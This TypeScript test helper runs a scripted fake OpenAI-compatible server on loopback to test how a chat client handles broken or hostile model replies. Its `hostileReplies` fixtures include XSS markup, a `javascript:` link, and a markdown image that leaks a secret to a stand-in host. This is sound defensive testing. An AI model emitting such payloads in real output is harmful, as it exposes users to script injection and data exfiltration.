import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';

/**
 * An OpenAI-compatible engine on loopback that plays what a test tells it to: good answers, and everything that a
 * broken or hostile engine could send. It records the requests that it got. For vitest and Playwright alike.
 */

export type ScriptedReply =
  /** Sent in small parts. `delayMs` is the pause before each part. */
  | { kind: 'text'; text: string; delayMs?: number; reason?: 'stop' | 'length' }
  /** Sends the text again and again until the client hangs up. */
  | { kind: 'endless'; text: string }
  /** Closes the connection in the middle, after this text. */
  | { kind: 'cut'; text: string }
  | { kind: 'status'; status: number; body?: unknown }
  /** Sends these bytes as the event stream. */
  | { kind: 'raw'; body: string; contentType?: string }
  /** Says nothing until the client hangs up. */
  | { kind: 'silent' };

/** Replies that no answer may be harmed by. `ids` in square brackets are the citation form that prompts ask for. */
export const hostileReplies = {
  inventedIds: { kind: 'text', text: 'The rent is due on the first day of each month. [99.1][7.42]\n' },
  noCitations: { kind: 'text', text: 'The rent is due on the first day of each month.\n' },
  markup: {
    kind: 'text',
    text: '<script>alert(1)</script><b onmouseover="alert(1)">The rent</b> <iframe src="//example.test"></iframe> is due. [1.1]\n',
  },
  imageLink: { kind: 'text', text: '![x](https://example.test/leak?q=secret) The rent is due. [1.1]\n' },
  javascriptLink: { kind: 'text', text: '[click](javascript:alert(1)) The rent is due. [1.1]\n' },
  endless: { kind: 'endless', text: 'The rent is due. [1.1]\n' },
  cut: { kind: 'cut', text: 'The rent is due on the fir' },
  serverError: { kind: 'status', status: 500, body: { error: { message: 'out of memory' } } },
  notEvents: { kind: 'raw', body: '<html><body>Bad gateway</body></html>', contentType: 'text/html' },
  brokenJson: { kind: 'raw', body: 'data: {"choices":[{"delta":{"content":"The re\n\n' },
  silent: { kind: 'silent' },
  empty: { kind: 'text', text: '' },
} as const satisfies Record<string, ScriptedReply>;

export type RecordedRequest = {
  path: string;
  authorization: string | undefined;
  body: Record<string, unknown>;
  /** When the client closed the connection before the reply was complete. */
  wasAborted: boolean;
};

export type ScriptedEngine = {
  /** What an administrator enters as the address. */
  url: string;
  requests: RecordedRequest[];
  /** What the following chat requests get, one after the other; the last one stays. */
  play: (...replies: ScriptedReply[]) => void;
  close: () => Promise<void>;
};

const partCharacters = 7;
const embeddingDimensions = 32;
const pause = (milliseconds: number) => new Promise((resolve) => setTimeout(resolve, milliseconds));

async function readBody(request: IncomingMessage): Promise<Record<string, unknown>> {
  const parts: Buffer[] = [];
  for await (const part of request as AsyncIterable<Buffer>) parts.push(part);
  const text = Buffer.concat(parts).toString('utf8');
  return text === '' ? {} : (JSON.parse(text) as Record<string, unknown>);
}

function sendJson(response: ServerResponse, status: number, body: unknown): void {
  response.writeHead(status, { 'content-type': 'application/json' });
  response.end(JSON.stringify(body));
}

function chunk(content: string, reason: string | null = null): string {
  return `data: ${JSON.stringify({ object: 'chat.completion.chunk', choices: [{ index: 0, delta: { content }, finish_reason: reason }] })}\n\n`;
}

function beginStream(response: ServerResponse, contentType = 'text/event-stream'): void {
  response.writeHead(200, { 'content-type': contentType });
}

function partsOf(text: string): string[] {
  return text.match(new RegExp(`[^]{1,${partCharacters}}`, 'g')) ?? [];
}

async function streamText(reply: ScriptedReply & { text: string }, response: ServerResponse): Promise<void> {
  beginStream(response);
  for (const part of partsOf(reply.text)) {
    await pause(reply.kind === 'text' ? (reply.delayMs ?? 0) : 0);
    if (response.destroyed) return;
    response.write(chunk(part));
  }
  if (reply.kind === 'cut') {
    await pause(20);
    response.destroy();
  }
  while (reply.kind === 'endless' && !response.destroyed) {
    response.write(chunk(reply.text));
    await pause(1);
  }
  if (reply.kind !== 'text') return;
  const usage = { prompt_tokens: 10, completion_tokens: Math.ceil(reply.text.length / 4) };
  response.write(chunk('', reply.reason ?? 'stop'));
  response.end(`data: ${JSON.stringify({ choices: [], usage })}\n\ndata: [DONE]\n\n`);
}

async function playReply(reply: ScriptedReply, response: ServerResponse): Promise<void> {
  switch (reply.kind) {
    case 'silent':
      return;
    case 'status':
      sendJson(response, reply.status, reply.body ?? { error: { message: 'scripted' } });
      return;
    case 'raw':
      beginStream(response, reply.contentType);
      response.end(reply.body);
      return;
    case 'text':
    case 'endless':
    case 'cut':
      await streamText(reply, response);
  }
}

/** A vector that depends on the words of the text only, so that equal words are near each other. */
function vectorOf(text: string): number[] {
  const vector = new Array<number>(embeddingDimensions).fill(0);
  for (const word of text.toLowerCase().match(/[a-z0-9]+/g) ?? []) {
    let hash = 0;
    for (const character of word) hash = (hash * 31 + character.charCodeAt(0)) >>> 0;
    const place = hash % embeddingDimensions;
    vector[place] = (vector[place] ?? 0) + 1;
  }
  return vector;
}

function sendEmbeddings(body: Record<string, unknown>, response: ServerResponse): void {
  const texts = (Array.isArray(body['input']) ? body['input'] : [body['input']]).map(String);
  sendJson(response, 200, { data: texts.map((text, index) => ({ index, embedding: vectorOf(text) })) });
}

function sendScores(body: Record<string, unknown>, response: ServerResponse): void {
  const documents = Array.isArray(body['documents']) ? body['documents'].map(String) : [];
  const asked = new Set(String(body['query']).toLowerCase().split(/\W+/));
  const results = documents.map((document, index) => ({
    index,
    // Raw outputs, as llama-server sends them.
    relevance_score:
      document
        .toLowerCase()
        .split(/\W+/)
        .filter((word) => asked.has(word)).length - 3,
  }));
  sendJson(response, 200, { results: results.reverse() });
}

/** Starts the engine on a free port of 127.0.0.1. `requiredKey`: other keys get 401. */
export async function startScriptedEngine(options: { requiredKey?: string } = {}): Promise<ScriptedEngine> {
  const requests: RecordedRequest[] = [];
  let script: ScriptedReply[] = [{ kind: 'text', text: 'NOT_FOUND' }];

  async function handle(request: IncomingMessage, response: ServerResponse): Promise<void> {
    const path = request.url ?? '';
    const { authorization } = request.headers;
    const recorded: RecordedRequest = {
      path,
      authorization,
      body: await readBody(request),
      wasAborted: false,
    };
    requests.push(recorded);
    response.once('close', () => {
      recorded.wasAborted = !response.writableFinished;
    });
    if (options.requiredKey !== undefined && authorization !== `Bearer ${options.requiredKey}`) {
      sendJson(response, 401, { error: { message: 'wrong key' } });
    } else if (path === '/v1/models')
      sendJson(response, 200, { data: [{ id: 'scripted-chat' }, { id: 'scripted-embed' }] });
    else if (path === '/v1/embeddings') sendEmbeddings(recorded.body, response);
    else if (path === '/v1/rerank') sendScores(recorded.body, response);
    else if (path === '/v1/chat/completions') {
      const reply = (script.length > 1 ? script.shift() : script[0]) ?? { kind: 'silent' };
      await playReply(reply, response);
    } else sendJson(response, 404, { error: { message: 'no such endpoint' } });
  }

  const server = createServer((request, response) => {
    handle(request, response).catch((error: unknown) => {
      response.destroy(error instanceof Error ? error : new Error(String(error)));
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}/v1`,
    requests,
    play: (...replies) => {
      script = replies;
    },
    close: async () => {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}
